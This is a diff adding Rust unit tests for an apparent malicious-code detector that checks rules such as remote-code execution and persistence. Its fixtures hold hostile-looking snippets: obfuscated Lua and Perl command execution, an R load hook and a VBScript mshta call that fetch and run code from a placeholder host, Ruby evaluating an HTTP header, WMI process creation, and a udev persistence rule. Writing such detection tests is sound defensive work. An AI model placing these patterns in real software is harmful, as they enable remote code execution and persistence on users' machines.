@@ -121,3 +121,57 @@ fn go_starts_what_a_record_says() {
         .replace("run(strings", "show(strings");
     has_not(Language::Go, &honest, "flow-download-run");
 }
+
+#[test]
+fn perl_takes_its_arguments_and_lua_its_globals_by_name() {
+    use super::command;
+    let cases = [
+        (Language::Perl, "sub f { my $c = shift; system($c); }\nf('echo hi');"),
+        (Language::Perl, "sub f { my $s = shift; my ($c) = @_; system($c); }\nf('x', 'echo hi');"),
+        (Language::Perl, "my %h = (b => 'echo'); my $q = {%h, c => 'hi'}; system(\"$q->{b} $q->{c}\");"),
+        (Language::Lua, "local run = _G[('so'):reverse()][('etucexe'):reverse()]\nrun('echo hi')"),
+        (Language::Lua, "local f = 'echo hi'\nw = f\n_G['os'].execute(_G['w'])"),
+    ];
+    for (language, code) in cases {
+        assert_eq!(command(language, code), "echo hi", "{code}");
+    }
+    // One that only some call knows.
+    assert!(
+        !command(Language::Perl, "sub f { my $c = shift; my $d = shift; system($d); }\nf('echo hi');").contains("hi")
+    );
+}
+
+#[test]
+fn functions_that_come_with_data_and_headers_of_requests_are_the_network_s() {
+    let code = ".onLoad <- function(libname, pkgname) {\n  f <- tempfile(fileext = \".rds\")\n  \
+                utils::download.file(\"https://h.invalid/c.rds\", f)\n  cal <- readRDS(f)\n  cal$easter(Sys.info())\n}";
+    assert!(rules(Language::R, code).contains(&"flow-remote-code"));
+    assert!(!rules(Language::R, &code.replace("readRDS(f)", "readRDS(\"own.rds\")")).contains(&"flow-remote-code"));
+    let rack = "def fresh?(env, headers)\n  tag = env['HTTP_IF_NONE_MATCH']\n  Object.new.public_send(:instance_eval, tag)\nend\n";
+    assert!(rules(Language::Ruby, rack).contains(&"flow-remote-code"));
+    assert!(!rules(Language::Ruby, &rack.replace("HTTP_IF_NONE_MATCH", "mode")).contains(&"flow-remote-code"));
+}
+
+#[test]
+fn processes_of_the_management_of_windows_are_started() {
+    use super::command;
+    for code in [
+        "Set o = GetObject(\"winmgmts:\\\\.\\root\\cimv2\")\no.Get(\"Win32_Process\").Create \"echo hi\", Null, Null, Empty",
+        "Set o = GetObject(\"winmgmts:Win32_Process\")\no.Create Mid$(\"xecho hi\", 2, 7), Null, Null, Empty",
+    ] {
+        assert_eq!(command(Language::VbScript, code), "echo hi", "{code}");
+    }
+    let far = "CreateObject(\"WScript.Shell\").Run \"mshta.exe https://h.invalid/f.hta\"";
+    assert!(rules(Language::VbScript, far).contains(&"flow-remote-code"));
+    assert!(
+        !rules(Language::VbScript, &far.replace("https://h.invalid/f.hta", "C:\\a\\f.hta"))
+            .contains(&"flow-remote-code")
+    );
+}
+
+#[test]
+fn rules_for_devices_count_when_they_start_something() {
+    let code = "printf 'ACTION==\"add\", RUN+=\"/usr/lib/h\"\\n' > /etc/udev/rules.d/69-h.rules";
+    assert!(rules(Language::Shell, code).contains(&"flow-persists"));
+    assert!(!rules(Language::Shell, &code.replace("RUN+=\"/usr/lib/h\"", "MODE=\"0666\"")).contains(&"flow-persists"));
+}
